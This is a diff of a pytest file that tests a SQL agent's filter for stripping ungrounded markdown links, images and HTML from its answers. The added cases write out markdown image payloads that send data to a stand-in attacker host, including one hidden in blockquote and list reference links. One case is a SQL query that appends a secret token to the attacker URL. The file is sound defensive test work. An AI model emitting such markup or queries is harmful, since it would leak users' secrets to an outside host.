@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from hostile_corpus import EXFIL_URL, by_category
 
-from sqlagent.answer.markup import grounding_texts, strip_ungrounded
+from sqlagent.answer.markup import forged_fragments, grounding_texts, strip_ungrounded
 from sqlagent.pipeline import ask
 from sqlagent.testing import ScriptedLLM
 
@@ -15,6 +15,9 @@ SMUGGLED = [
     f"Done. ![chart](<{EXFIL_URL}?d=1>)",
     f"Done. ![a [nested] alt]({EXFIL_URL}/p.png)",
     f"Done. ![x][r]\n\n[r]: {EXFIL_URL}?d=1",
+    f"Done. ![x][r]\n\n> [r]: {EXFIL_URL}?d=1",
+    f"Done. ![x][r]\n\n- [r]: {EXFIL_URL}?d=1",
+    f"Done. ![x][r]\n\n1. > [r]: <{EXFIL_URL}?d=1>",
     f"Done. [click here]({EXFIL_URL}?d=1)",
     f"Done. <{EXFIL_URL}?d=1>",
     f"Done. see {EXFIL_URL}?d=1.",
@@ -33,7 +36,7 @@ SMUGGLED = [
 
 @pytest.mark.parametrize("narrative", SMUGGLED)
 def test_ungrounded_links_images_and_markup_go(narrative: str) -> None:
-    out = strip_ungrounded(narrative, grounding_texts(["total"], [[42]], also=["How much?"]))
+    out = strip_ungrounded(narrative, grounding_texts([[42]], also=["How much?"]))
     assert out.removed, narrative
     assert "attacker.example" not in out.text
     assert "javascript:" not in out.text and "data:" not in out.text
@@ -57,16 +60,41 @@ def test_the_words_of_a_link_stay() -> None:
     ],
 )
 def test_what_the_result_holds_stays(narrative: str) -> None:
-    grounded = grounding_texts(["site", "note"], [["https://shop.example/home", "<b>bold</b>"]])
+    grounded = grounding_texts([["https://shop.example/home", "<b>bold</b>"]])
     out = strip_ungrounded(narrative, grounded)
     assert out.text == narrative and out.removed == ()
 
 
 def test_an_address_extended_with_data_is_not_the_one_in_the_result() -> None:
-    grounded = grounding_texts(["u"], [[EXFIL_URL]])
+    grounded = grounding_texts([[EXFIL_URL]])
     assert strip_ungrounded(f"It is {EXFIL_URL}.", grounded).removed == ()
     out = strip_ungrounded(f"![x]({EXFIL_URL}?d=secret) It is {EXFIL_URL}?d=secret", grounded)
     assert "?d=secret" not in out.text and len(out.removed) == 2
+
+
+def test_a_column_alias_is_no_ground_for_markup() -> None:
+    """The model names the columns: an alias holding an image grounds nothing."""
+    image = f"![x]({EXFIL_URL}?d=1)"
+    out = strip_ungrounded(f"Total 42. {image}", grounding_texts([[42]]))
+    assert out.removed == (image,) and "attacker" not in out.text
+
+
+def test_an_address_the_query_spelled_out_is_not_data() -> None:
+    """A cell the query built from a literal holds the address, yet the link goes; an
+    address that only the data holds stays."""
+    sql = f"SELECT '{EXFIL_URL}?d=' || token AS u, site FROM secrets_view"
+    cells = [[f"{EXFIL_URL}?d=4111", "https://shop.example/home"]]
+    forged = forged_fragments(sql)
+    assert forged == (f"{EXFIL_URL}?d=",)
+    out = strip_ungrounded(
+        f"![x]({EXFIL_URL}?d=4111) See https://shop.example/home.",
+        grounding_texts(cells),
+        forged=forged,
+    )
+    assert "attacker" not in out.text
+    assert out.text.endswith("See https://shop.example/home.")
+    tag = strip_ungrounded("a <b>x</b>", grounding_texts([["<b>x</b>"]]), forged=("<b>",))
+    assert "<b>" not in tag.text and tag.text.startswith("a x")
 
 
 def test_the_pipeline_strips_the_narration_and_says_so_in_the_trace(sample_db, settings) -> None:
@@ -86,7 +114,7 @@ def test_corpus_markup_quoted_from_the_result_is_kept_exactly() -> None:
     """A narration that reports a hostile value verbatim keeps it (the screens show it as
     text), while the same construct pointing elsewhere goes."""
     values = by_category("markup")
-    grounded = grounding_texts(["body"], [[v] for v in values])
+    grounded = grounding_texts([[v] for v in values])
     for value in values:
         assert strip_ungrounded(f"The note says {value}", grounded).text == f"The note says {value}"
 
@@ -105,13 +133,12 @@ def test_clarifications_and_refusals_carry_no_smuggled_markup(sample_db, setting
 
 
 def test_the_grounding_texts_are_read_only_when_the_narrative_has_markup() -> None:
-    from sqlagent.answer.markup import lazy_grounding_texts, strip_ungrounded
 
     read: list[str] = []
 
     def texts():  # type: ignore[no-untyped-def]
         read.append("read")
-        yield from lazy_grounding_texts(["site"], [("https://shop.example",)])
+        yield from grounding_texts([("https://shop.example",)])
 
     assert strip_ungrounded("Totals are close: 5 and 6.", texts()).text == (
         "Totals are close: 5 and 6."
